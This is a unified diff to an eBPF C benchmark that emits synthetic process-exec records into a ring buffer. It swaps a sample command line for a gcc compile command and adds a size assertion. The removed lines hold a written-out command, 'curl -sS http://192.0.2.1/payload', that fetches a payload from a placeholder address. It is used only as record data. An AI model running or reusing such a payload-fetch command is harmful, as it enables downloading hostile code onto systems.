@@ -7,7 +7,7 @@
 char LICENSE[] SEC("license") = "Dual BSD/GPL";
 
 #define BENCH_SIZE 256
-#define BENCH_EXE 13
+#define BENCH_EXE 12
 #define BENCH_CWD 7
 
 struct bench_record {
@@ -40,8 +40,10 @@ static long emit_one(__u32 i, struct emit_order *order)
 	r->strings.exe_len = BENCH_EXE;
 	r->strings.args_len = sizeof(r->data) - BENCH_EXE - BENCH_CWD;
 	r->strings.cwd_len = BENCH_CWD;
-	__builtin_memcpy(r->data, "/usr/bin/curl", BENCH_EXE);
-	__builtin_memcpy(r->data + BENCH_EXE, "curl\0-sS\0http://192.0.2.1/payload", 34);
+	__builtin_memcpy(r->data, "/usr/bin/gcc", BENCH_EXE);
+	static const char args[] = "gcc\0-O2\0-Wall\0-Iinclude\0-I/usr/include/x86_64-linux-gnu\0-c\0src/parts/of/the.c\0-o\0a.o"; // of a build, as most are
+	_Static_assert(BENCH_EXE + sizeof(args) + BENCH_CWD == sizeof(r->data), "the strings fill the record");
+	__builtin_memcpy(r->data + BENCH_EXE, args, sizeof(args));
 	__builtin_memcpy(r->data + sizeof(r->data) - BENCH_CWD, "/var/me", BENCH_CWD);
 	__u64 start = r->header.boot;
 	bpf_ringbuf_submit(r, WAKE_ASLEEP);
